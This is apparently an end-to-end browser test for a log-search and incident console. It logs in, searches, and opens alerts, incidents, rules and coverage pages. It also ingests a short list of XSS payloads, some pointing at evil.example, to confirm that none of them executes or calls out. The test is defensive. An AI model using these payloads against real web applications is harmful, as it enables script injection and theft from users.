// End-to-end test of the web console: starts `crowsnest demo` (generated cluster activity with
// an intrusion, so alerts and incidents exist), ingests an XSS corpus, then drives every page
// in headless Chromium (the system's, through playwright-core), checking that:
//   * login, search, opening an event, filtering by a click, alerts, incidents and an incident's
//     acknowledge action work;
//   * no dialog opens, no CSP violation fires, no page error happens, no request leaves the origin;
//   * axe-core finds no serious or critical violation on any page;
//   * no long task over 200 ms runs on the search page;
//   * one 2 MB log line (a second server, `[decode] max_line_bytes` raised to 4 MiB) is cut on
//     the search page ("N bytes more") and the page stays responsive (no long task over 200 ms);
//   * search works with JavaScript off.
// A screenshot of each page goes to $E2E_ARTIFACTS (default: target/e2e-artifacts).
//
// Environment: CROWSNEST_BIN (the binary), CHROMIUM (default /usr/bin/chromium).
import { spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import path from "node:path";
import { chromium } from "playwright-core";

const require = createRequire(import.meta.url);
const axeSource = require("axe-core").source;

const root = path.resolve(path.dirname(new URL(import.meta.url).pathname), "../..");
const bin = process.env.CROWSNEST_BIN || path.join(root, "target/debug/crowsnest");
const artifacts = process.env.E2E_ARTIFACTS || path.join(root, "target/e2e-artifacts");
const chromiumPath = process.env.CHROMIUM || "/usr/bin/chromium";
mkdirSync(artifacts, { recursive: true });

const failures = [];
function check(ok, what) {
  if (ok) {
    console.log(`ok   ${what}`);
  } else {
    console.log(`FAIL ${what}`);
    failures.push(what);
  }
}

const XSS = [
  "<script>alert('xss-script')</script>",
  "<img src=x onerror=alert('xss-img')>",
  "<svg onload=alert('xss-svg')></svg>",
  "javascript:alert('xss-link')",
  "<a href=\"javascript:alert('xss-href')\">click</a>",
  "<div hx-get=\"https://evil.example/x\" hx-trigger=\"load\">hx</div>",
  "<button hx-on:click=\"alert('xss-hxon')\" hx-on::load=\"alert('xss-hxload')\">b</button>",
  "\"><script>alert('xss-attr')</script><input value=\"",
  "<iframe src=\"javascript:alert('xss-iframe')\"></iframe>",
  "<style>body{background:url(https://evil.example/css)}</style>",
];

function startDemo(dataDir, port) {
  return new Promise((resolve, reject) => {
    const child = spawn(bin, ["demo", "--data-dir", dataDir, "--listen", `127.0.0.1:${port}`, "--events", "20000", "--hours", "2", "--rate", "0"], {
      stdio: ["ignore", "pipe", "pipe"],
      env: { ...process.env, RUST_LOG: "warn" },
    });
    let out = "";
    const timer = setTimeout(() => reject(new Error(`demo did not start in 300 s:\n${out}`)), 300_000);
    child.stdout.on("data", (chunk) => {
      out += chunk;
      const token = out.match(/^token: (cn_[0-9a-f]+)/m);
      const console_ = out.match(/^Web console: (http:\/\/\S+)\//m);
      if (token && console_) {
        clearTimeout(timer);
        resolve({ child, token: token[1], url: console_[1] });
      }
    });
    child.stderr.on("data", (chunk) => process.stderr.write(chunk));
    child.on("exit", (code) => reject(new Error(`demo exited with ${code}:\n${out}`)));
  });
}

// `crowsnest server` on `dataDir` with `config`: its console URL and admin token.
function startServer(dataDir, port, config) {
  const configPath = path.join(dataDir, "e2e.toml");
  writeFileSync(configPath, config);
  return new Promise((resolve, reject) => {
    const child = spawn(bin, ["server", "--config", configPath, "--data-dir", dataDir, "--listen", `127.0.0.1:${port}`], {
      stdio: ["ignore", "pipe", "pipe"],
      env: { ...process.env, RUST_LOG: "warn" },
    });
    let err = "";
    const timer = setTimeout(() => reject(new Error(`server did not start in 120 s:\n${err}`)), 120_000);
    child.stderr.on("data", (chunk) => {
      err += chunk;
      const found = err.match(/web console: (http:\/\/\S+)\//);
      if (found) {
        clearTimeout(timer);
        const token = readFileSync(path.join(dataDir, "admin.token"), "utf8").trim();
        resolve({ child, token, url: found[1] });
      }
    });
    child.on("exit", (code) => reject(new Error(`server exited with ${code}:\n${err}`)));
  });
}

async function stopChild(child) {
  child.kill("SIGINT");
  await new Promise((r) => {
    const t = setTimeout(() => { child.kill("SIGKILL"); r(); }, 30_000);
    child.on("exit", () => { clearTimeout(t); r(); });
  });
}

// One 2 MB log line on its own server (lines up to 4 MiB): the search page cuts it and stays
// responsive.
async function bigLine(browser) {
  const dir = mkdtempSync(path.join(tmpdir(), "crowsnest-e2e-big-"));
  let server;
  try {
    server = await startServer(dir, 20000 + Math.floor(Math.random() * 20000), "[decode]\nmax_line_bytes = 4194304\n");
    const { url, token } = server;
    const size = 2 * 1024 * 1024;
    const text = "big-line " + "x".repeat(size - 40);
    const line = JSON.stringify({ "@timestamp": new Date().toISOString(), message: text, kubernetes: { namespace: "big-line" } });
    await api(url, token, "/api/v1/ingest/ndjson", line + "\n", "application/x-ndjson");
    for (let i = 0; i < 100; i++) {
      const found = JSON.parse(await api(url, token, "/api/v1/search", JSON.stringify({ query: "kubernetes.namespace:big-line", limit: 1 })));
      if (found.total >= 1) break;
      await new Promise((r) => setTimeout(r, 200));
    }
    const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
    await context.addInitScript(() => {
      window.__longtasks = [];
      try {
        new PerformanceObserver((list) => list.getEntries().forEach((e) => window.__longtasks.push(e.duration))).observe({ type: "longtask", buffered: true });
      } catch (e) {
        /* not supported */
      }
    });
    const page = await context.newPage();
    await page.goto(`${url}/login`);
    await page.fill("#token", token);
    await page.click("button[type=submit]");
    await page.waitForURL(/\/search/);
    const t0 = Date.now();
    await page.goto(`${url}/search?range=1h&q=${encodeURIComponent("kubernetes.namespace:big-line")}`);
    await page.waitForSelector("#summary");
    const shown = Date.now() - t0;
    const bytes = (await page.content()).length;
    await page.locator("tbody.event summary").first().click();
    const more = await page.locator("tbody.event span.more").allTextContents();
    const biggest = Math.max(0, ...more.map((m) => Number((m.match(/(\d+) bytes more/) || [0, 0])[1])));
    check(biggest > size - 16 * 1024, `the 2 MB line is cut on the page, saying how much is left ("${biggest} bytes more"; the page is ${bytes} bytes, shown in ${shown} ms)`);
    // Responsive: typing in the query bar is answered at once.
    const t1 = Date.now();
    await page.fill("#q", "kubernetes.namespace:big-line AND x");
    const typed = Date.now() - t1;
    check(typed < 1000, `the page answers typing with the 2 MB line listed (${typed} ms)`);
    await page.waitForTimeout(500);
    const observed = await page.evaluate(() => PerformanceObserver.supportedEntryTypes.includes("longtask"));
    check(observed, "the browser reports long tasks (the checks below measure something)");
    const longtasks = await page.evaluate(() => window.__longtasks || []);
    check(longtasks.every((d) => d <= 200), `no long task over 200 ms with the 2 MB line (${JSON.stringify(longtasks.map(Math.round))})`);
    await shot(page, "11-search-2mb-line");
    await context.close();
  } finally {
    if (server) await stopChild(server.child);
    rmSync(dir, { recursive: true, force: true });
  }
}

async function api(url, token, pathname, body, type = "application/json") {
  const response = await fetch(url + pathname, {
    method: body === undefined ? "GET" : "POST",
    headers: { Authorization: `Bearer ${token}`, "Content-Type": type },
    body,
  });
  const text = await response.text();
  if (!response.ok) throw new Error(`${pathname}: ${response.status} ${text}`);
  return text;
}

async function axeCheck(page, name) {
  await page.evaluate(axeSource);
  const result = await page.evaluate(async () => {
    // eslint-disable-next-line no-undef
    const r = await axe.run(document, { resultTypes: ["violations"] });
    return r.violations.map((v) => ({ id: v.id, impact: v.impact, help: v.help, nodes: v.nodes.length, target: v.nodes[0] && v.nodes[0].target }));
  });
  const bad = result.filter((v) => v.impact === "serious" || v.impact === "critical");
  for (const v of result) console.log(`     axe ${name}: ${v.impact} ${v.id} (${v.nodes}) ${v.help} ${JSON.stringify(v.target)}`);
  check(bad.length === 0, `axe-core: no serious or critical violations on ${name}`);
}

async function shot(page, name) {
  await page.screenshot({ path: path.join(artifacts, `${name}.png`), fullPage: true });
}

const port = 20000 + Math.floor(Math.random() * 20000);
const dataDir = mkdtempSync(path.join(tmpdir(), "crowsnest-e2e-"));
let demo;
let browser;
try {
  demo = await startDemo(dataDir, port);
  const { url, token } = demo;
  console.log(`demo at ${url}`);

  // The XSS corpus, in the message, a user name, a label and the original line.
  const now = new Date().toISOString();
  const lines = XSS.map((text, i) =>
    JSON.stringify({ "@timestamp": now, message: text, user: { name: text }, kubernetes: { namespace: "xss-corpus", pod: { name: `pod-${i}` } }, labels: { payload: text } }),
  ).join("\n");
  await api(url, token, "/api/v1/ingest/ndjson", lines + "\n", "application/x-ndjson");
  for (let i = 0; i < 100; i++) {
    const found = JSON.parse(await api(url, token, "/api/v1/search", JSON.stringify({ query: "kubernetes.namespace:xss-corpus", limit: 1 })));
    if (found.total >= XSS.length) break;
    await new Promise((r) => setTimeout(r, 200));
  }

  browser = await chromium.launch({ executablePath: chromiumPath, args: ["--no-sandbox", "--disable-dev-shm-usage"] });
  const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
  await context.addInitScript(() => {
    window.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
    window.__longtasks = [];
    try {
      new PerformanceObserver((list) => list.getEntries().forEach((e) => window.__longtasks.push(e.duration))).observe({ type: "longtask", buffered: true });
    } catch (e) {
      /* not supported */
    }
  });
  const dialogs = [];
  const pageErrors = [];
  const consoleCsp = [];
  const offOrigin = [];
  const origin = new URL(url).origin;
  context.on("request", (request) => {
    const u = new URL(request.url());
    if (u.origin !== origin && u.protocol !== "data:") offOrigin.push(request.url());
  });
  const page = await context.newPage();
  page.on("dialog", async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  page.on("pageerror", (error) => pageErrors.push(String(error)));
  page.on("console", (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) consoleCsp.push(message.text());
  });
  const cspViolations = async () => page.evaluate(() => window.__csp || []);

  // Login.
  await page.goto(`${url}/search?range=6h`);
  check(page.url().startsWith(`${url}/login`), "a page without a session goes to the login page");
  await axeCheck(page, "login");
  await shot(page, "01-login");
  await page.fill("#token", "cn_wrong");
  await page.click("button[type=submit]");
  const refusal = (await page.textContent("[role=alert]").catch(() => "")) || "";
  check(refusal.includes("Unknown token"), `a wrong token is refused with a message (${refusal.trim()})`);
  await page.fill("#token", token);
  await page.click("button[type=submit]");
  await page.waitForURL(/\/search/);
  check(page.url().includes("range=6h"), "login returns to the page asked for");
  const cookies = await context.cookies();
  const session = cookies.find((c) => c.name === "cn_session");
  check(session && session.httpOnly && session.sameSite === "Strict", "the session cookie is HttpOnly and SameSite=Strict");

  // Search: the generated activity, the histogram, an event.
  await page.fill("#q", "event.dataset:kubernetes.audit");
  await page.selectOption("#range", "6h");
  const t0 = Date.now();
  await page.click("form.search button[type=submit]");
  await page.waitForSelector("#summary");
  const firstResults = Date.now() - t0;
  check(firstResults < 3000, `first results rendered in ${firstResults} ms`);
  await page.waitForSelector("#histogram .uplot, #histogram [role=alert]", { timeout: 15000 });
  check((await page.locator("#histogram .uplot").count()) === 1, "the histogram is drawn by uPlot");
  await page.screenshot({ path: path.join(artifacts, "readme-search.png") });
  const summary = await page.textContent("#summary");
  check(/Events 1–\d+ of \d+ matching \(exact count\)/.test(summary), `the summary states rows shown / total: "${summary.trim()}"`);
  await page.locator("tbody.event summary").first().click();
  check(await page.locator("tbody.event details[open] table.fields").first().isVisible(), "an event opens with its normalized fields");
  check((await page.locator("tbody.event details[open] pre.original").count()) >= 1, "an opened event shows its original");
  await axeCheck(page, "search");
  await shot(page, "02-search");
  const longtasks = await page.evaluate(() => window.__longtasks || []);
  check(longtasks.every((d) => d <= 200), `no long task over 200 ms on the search page (${JSON.stringify(longtasks.map(Math.round))})`);

  // Click a value to filter on it.
  const link = page.locator("tbody.event a.v[title='Filter on kubernetes.namespace']").first();
  if ((await link.count()) > 0) {
    const value = (await link.textContent()).trim();
    await link.click();
    await page.waitForLoadState();
    check((await page.inputValue("#q")).includes(`kubernetes.namespace:${value}`), `clicking a value adds it to the query (${value})`);
  } else {
    check(false, "a namespace value to click");
  }

  // The field list: count a field's values over the whole query.
  await page.locator("details.fieldlist summary").click();
  await page.locator("details.fieldlist li:has(code:text-is('event.action')) a:has-text('top values')").click();
  await page.waitForLoadState();
  check((await page.locator("table.results th:has-text('event.action')").count()) === 1, "a field's top values open as a stats table");

  // A pipe renders as a table and a chart.
  await page.goto(`${url}/search?range=6h&q=${encodeURIComponent("* | timechart span=10m count() by event.dataset")}`);
  check((await page.locator("table.results th").count()) >= 3, "timechart renders as a table");
  await page.waitForSelector("main > .chart .uplot", { timeout: 10000 }).catch(() => {});
  check((await page.locator("main > .chart .uplot").count()) === 1, "timechart renders as a chart");
  await shot(page, "03-timechart");

  // A syntax error points at its column.
  // Field and value suggestions, by keyboard.
  await page.goto(`${url}/search?range=6h`);
  await page.focus("#q");
  await page.keyboard.type("kubernetes.names");
  await page.waitForSelector("#q-suggest li[role=option]");
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  check((await page.inputValue("#q")) === "kubernetes.namespace:", `a field suggestion is taken with the keyboard (${await page.inputValue("#q")})`);
  await page.waitForSelector("#q-suggest li[role=option]");
  const valueCount = await page.locator("#q-suggest li[role=option]").count();
  check(valueCount > 0 && valueCount <= 15, `the field's values are suggested next (${valueCount})`);
  await axeCheck(page, "search-suggest");
  await shot(page, "04b-search-suggest");
  await page.keyboard.press("Escape");
  check(await page.locator("#q-suggest").isHidden(), "Escape closes the suggestions");

  await page.goto(`${url}/search?range=6h&q=${encodeURIComponent("user.name:(alice OR")}`);
  const error = await page.textContent("#query-error");
  check(/column \d+/.test(error) && (await page.locator("#query-error pre.caret").count()) === 1, "a syntax error is shown inline at its column");
  await shot(page, "04-search-error");

  // Hostile text: every event of the corpus opened, nothing runs.
  await page.goto(`${url}/search?range=1h&q=${encodeURIComponent("kubernetes.namespace:xss-corpus")}&cols=${encodeURIComponent("@timestamp,message,user.name,labels.payload")}`);
  const opened = await page.locator("tbody.event summary").count();
  for (let i = 0; i < opened; i++) await page.locator("tbody.event summary").nth(i).click();
  await page.waitForTimeout(1000);
  check(opened === XSS.length, `the XSS corpus is listed (${opened} events)`);
  check((await page.locator("main img, main svg:not(.uplot svg), main iframe, main script, main [hx-on\\:click]").count()) === 0, "no element of the corpus became markup");
  check((await page.textContent("main")).includes("<script>alert('xss-script')</script>"), "the corpus is shown as text");
  await axeCheck(page, "search-xss");
  await shot(page, "05-search-xss");

  // The overview dashboard.
  await page.goto(`${url}/dashboard?range=6h`);
  check((await page.locator("section.panel table.results").count()) >= 4, "the dashboard's panels show their tables");
  await page.waitForSelector("section.panel .chart .uplot", { timeout: 10000 }).catch(() => {});
  check((await page.locator("section.panel .chart .uplot").count()) === 1, "the dashboard draws events per source over time");
  check((await page.locator("h3#rejects").count()) === 1 && (await page.locator("h3#silent").count()) === 1, "the ingest health shows rejects per input and silent sources");
  await axeCheck(page, "dashboard");
  await shot(page, "05b-dashboard");

  // Alerts.
  await page.goto(`${url}/alerts?since=6h`);
  const alertRows = await page.locator("table.results tbody tr").count();
  check(alertRows > 0, `the alerts page lists the demo's alerts (${alertRows})`);
  await axeCheck(page, "alerts");
  await shot(page, "06-alerts");

  // Exec sessions: the demo's intrusion execs into a payments pod.
  await page.goto(`${url}/exec?range=24h`);
  const execs = await page.locator("table.results tbody tr").count();
  check(execs > 0, `the exec sessions page lists the execs (${execs})`);
  check((await page.locator("h2:has-text('docker exec')").count()) === 1, "the exec sessions page has its docker exec list");
  await axeCheck(page, "exec-list");
  await shot(page, "06c-exec");
  if (execs > 0) {
    await page.locator("table.results tbody tr a:has-text('what ran')").first().click();
    await page.waitForSelector("h2:has-text('What ran in the pod')");
    check((await page.locator("dl.facts dd").first().textContent()).trim().length > 0, "an exec session says who and when");
    await axeCheck(page, "exec-session");
    await shot(page, "06d-exec-session");
  }

  // Rules.
  await page.goto(`${url}/rules?range=7d`);
  const ruleRows = await page.locator("table.results tbody tr").count();
  check(ruleRows > 20, `the rules page lists every loaded rule (${ruleRows})`);
  await axeCheck(page, "rules");
  await shot(page, "06b-rules");
  await page.locator("table.results tbody tr td a").first().click();
  await page.waitForSelector("h2:has-text('Source')");
  check(((await page.textContent("pre.original code")) || "").includes("detection"), "a rule's page shows its Sigma source");
  await axeCheck(page, "rule");
  await shot(page, "06e-rule");
  await page.selectOption("#test-range", "24h");
  await page.click("button:has-text('Run the test')");
  await page.waitForSelector("p.summary[role=status]");
  check(/\d+ matches in \d+ events read/.test(await page.textContent("p.summary[role=status]")), "a rule test over a past range states what it read and matched");
  await axeCheck(page, "rule-test");
  await shot(page, "06f-rule-test");

  // ATT&CK for Containers coverage.
  await page.goto(`${url}/coverage?range=30d`);
  const cells = await page.locator(".matrix li.cell").count();
  check(cells > 30, `the coverage matrix shows the Containers techniques (${cells} cells)`);
  check((await page.locator(".matrix li.cell.gap").count()) > 0 && (await page.locator(".matrix li.cell.covered, .matrix li.cell.alerted").count()) > 0, "covered cells and gaps are both visible");
  check(((await page.textContent("footer.notice")) || "").includes("The MITRE Corporation"), "MITRE's notice is shown");
  await axeCheck(page, "coverage");
  await shot(page, "06g-coverage");
  await page.locator(".matrix li.cell.covered a, .matrix li.cell.alerted a").first().click();
  await page.waitForSelector("#detail");
  check((await page.locator("#detail li a").count()) > 0, "a cell lists its rules");
  await axeCheck(page, "coverage-cell");
  await shot(page, "06h-coverage-cell");

  // Incidents, one incident, acknowledge it.
  await page.goto(`${url}/incidents`);
  const incidents = await page.locator("table.results tbody tr").count();
  check(incidents > 0, `the incidents page lists the demo's incidents (${incidents})`);
  await axeCheck(page, "incidents");
  await shot(page, "07-incidents");
  if (incidents > 0) {
    await page.locator("table.results tbody tr a").first().click();
    await page.waitForSelector("#status");
    check((await page.locator("ol.timeline li").count()) > 0, "the incident page has a timeline");
    check((await page.locator("h2:has-text('Risk factors') + table tbody tr").count()) > 0, "the incident page shows its risk factors");
    check((await page.locator("h2:has-text('Matched events') + p + div table tbody tr").count()) > 0, "the incident page lists the events its alerts matched");
    check((await page.locator("details.rule pre.original").count()) > 0, "the incident page shows its rules' Sigma source");
    check((await page.locator("h2:has-text('Events around it')").count()) === 1, "the incident page shows the events around it");
    check((await page.locator("h2#containment").count()) === 1, "the incident page has its containment actions section");
    await axeCheck(page, "incident");
    await shot(page, "08-incident");
    const before = (await page.textContent("#status")).trim();
    if (before === "new") {
      await page.click("section.actions button:has-text('acknowledge')");
      await page.waitForSelector("#status");
      check((await page.textContent("#status")).trim().startsWith("acknowledged"), "acknowledge changes the incident's status");
      await shot(page, "09-incident-acknowledged");
    }
  }

  // Nothing ran, nothing was refused, nothing left the origin.
  check(dialogs.length === 0, `no dialog opened (${JSON.stringify(dialogs)})`);
  check(pageErrors.length === 0, `no page error (${JSON.stringify(pageErrors)})`);
  const csp = await cspViolations();
  check(csp.length === 0 && consoleCsp.length === 0, `no CSP violation (${JSON.stringify(csp.concat(consoleCsp))})`);
  check(offOrigin.length === 0, `no request left the origin (${JSON.stringify(offOrigin)})`);

  // With JavaScript off: log in, search, read the results.
  const plain = await browser.newContext({ javaScriptEnabled: false });
  const p2 = await plain.newPage();
  await p2.goto(`${url}/login`);
  await p2.fill("#token", token);
  await p2.click("button[type=submit]");
  await p2.waitForURL(/\/search/);
  await p2.fill("#q", "kubernetes.namespace:xss-corpus");
  await p2.selectOption("#range", "1h");
  await p2.click("form.search button[type=submit]");
  await p2.waitForSelector("#summary");
  check((await p2.locator("tbody.event").count()) === XSS.length, "search works with JavaScript off");
  await shot(p2, "10-search-no-js");
  await p2.goto(`${url}/incidents`);
  check((await p2.locator("table.results tbody tr").count()) > 0, "incidents work with JavaScript off");
  await plain.close();

  await bigLine(browser);

  // Logout ends the session.
  await page.goto(`${url}/search`);
  await page.click("form.logout button");
  await page.waitForURL(/\/login/);
  await page.goto(`${url}/alerts`);
  check(page.url().startsWith(`${url}/login`), "after logout the pages need a login again");
} catch (error) {
  console.error(error);
  failures.push(String(error));
} finally {
  if (browser) await browser.close();
  if (demo) {
    demo.child.kill("SIGINT");
    await new Promise((r) => {
      const t = setTimeout(() => { demo.child.kill("SIGKILL"); r(); }, 30_000);
      demo.child.on("exit", () => { clearTimeout(t); r(); });
    });
  }
  rmSync(dataDir, { recursive: true, force: true });
}

console.log(`\nscreenshots in ${artifacts}`);
if (failures.length > 0) {
  console.error(`\n${failures.length} e2e check(s) failed:\n  ${failures.join("\n  ")}`);
  process.exit(1);
}
console.log("console e2e: all checks passed");
